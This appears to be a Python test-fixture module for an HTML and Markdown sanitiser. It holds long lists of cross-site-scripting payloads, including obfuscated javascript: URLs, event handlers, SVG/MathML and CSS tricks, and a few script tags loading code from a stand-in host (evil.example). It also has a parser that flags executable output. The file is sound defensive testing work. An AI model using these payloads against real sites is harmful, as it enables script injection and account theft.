"""Hostile markup for the sanitising tests, and the one test of "nothing executable".

The payloads cover script elements, event handlers, script-bearing URLs in every
attribute that takes one (plain, entity-encoded, split by whitespace and control
characters, mixed case), SVG and MathML, CSS expression() and url(javascript:),
broken and nested markup, and Markdown's own link, image and autolink syntax.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script type="module">import("//evil.example")</script>',
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img src=x onerror=&#x61;lert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<IMG SRC=`javascript:alert("XSS")`>',
    '<img src="jav&#x0A;ascript:alert(1)">',
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="https://ok.example/x.png" srcset="javascript:alert(1) 1x">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>unquoted</a>",
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="  &#14;  javascript:alert(1)">control character</a>',
    '<a href="\x01javascript:alert(1)">raw control character</a>',
    '<a href="java\x00script:alert(1)">null byte</a>',
    '<a href="javas\tcript:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">padded entities</a>',
    '<a href="javascript&colon;alert(1)">named entity</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://ok.example/" onclick="alert(1)">ok link, bad handler</a>',
    '<a href="https://ok.example/" target="_blank" formaction="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    "<input autofocus onfocus=alert(1)>",
    '<video poster="javascript:alert(1)"><source src=x onerror=alert(1)></video>',
    "<audio src=x onerror=alert(1)></audio>",
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr>'
    "</table>",
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<td style="text-align:right; background:url(javascript:alert(1))">x</td>',
    '<th style="text-align:expression(alert(1))">x</th>',
    '<p style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">x</p>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<p onmouseover="alert(1)">x</p>',
    '<q cite="javascript:alert(1)">x</q>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<img """><script>alert(1)</script>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<div><p><b><i><script>alert(1)</script></i></b></p></div>",
    "<img src=x onerror=alert(1)//",
    "<!--<script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<plaintext><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<script>alert(1)</script>",
    "<scrIpt\x00>alert(1)</script>",
    "<img\nsrc=x\nonerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<a\x0chref=javascript:alert(1)>form feed</a>",
]

MARKDOWN_PAYLOADS = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](java%0ascript:alert(1))",
    '[x](javascript:alert(1) "title")',
    "![x](javascript:alert(1))",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "[x](vbscript:msgbox(1))",
    "[a](data:image/svg+xml,<svg onload=alert(1)>)",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "> <svg onload=alert(1)>",
    "- <a href=javascript:alert(1)>x</a>",
    "Text[^1]\n\n[^1]: <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
]

URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "poster", "background",
    "data", "cite", "srcset", "longdesc", "lowsrc", "dynsrc", "codebase", "ping",
}  # fmt: skip
FORBIDDEN_ELEMENTS = {
    "script", "svg", "math", "iframe", "frame", "frameset", "object", "embed", "applet",
    "form", "input", "button", "textarea", "select", "option", "style", "link", "meta",
    "base", "template", "noscript", "video", "audio", "source", "body", "html", "head",
    "title", "xss", "plaintext",
}  # fmt: skip
_BAD_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.I)
# Browsers drop these before reading a URL's scheme.
_URL_NOISE = re.compile(r"[\x00-\x20\x7f]+")


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            value = html.unescape(value or "")
            if name.startswith("on"):
                self.problems.append(f"{name}= handler on <{tag}>")
            if name in URL_ATTRIBUTES and _BAD_SCHEME.match(_URL_NOISE.sub("", value)):
                self.problems.append(f"{name}={value!r} on <{tag}>")
            # A URL starting with anything else ("`javascript:...") is relative: inert.
            lowered = _URL_NOISE.sub("", value).lower()
            if name == "style" and ("expression(" in lowered or "url(" in lowered):
                self.problems.append(f"{name}={value!r} on <{tag}>")
            if name in {"style", "srcset"} and "javascript:" in lowered:
                self.problems.append(f"{name}={value!r} on <{tag}>")

    handle_startendtag = handle_starttag


def executable_parts(rendered: str) -> list[str]:
    """What in `rendered` a browser could run: [] when it is safe."""
    audit = _Audit()
    audit.feed(rendered)
    audit.close()
    problems = audit.problems
    if re.search(r"<\s*script", rendered, re.I):
        problems.append("a <script tag in the raw output")
    return problems
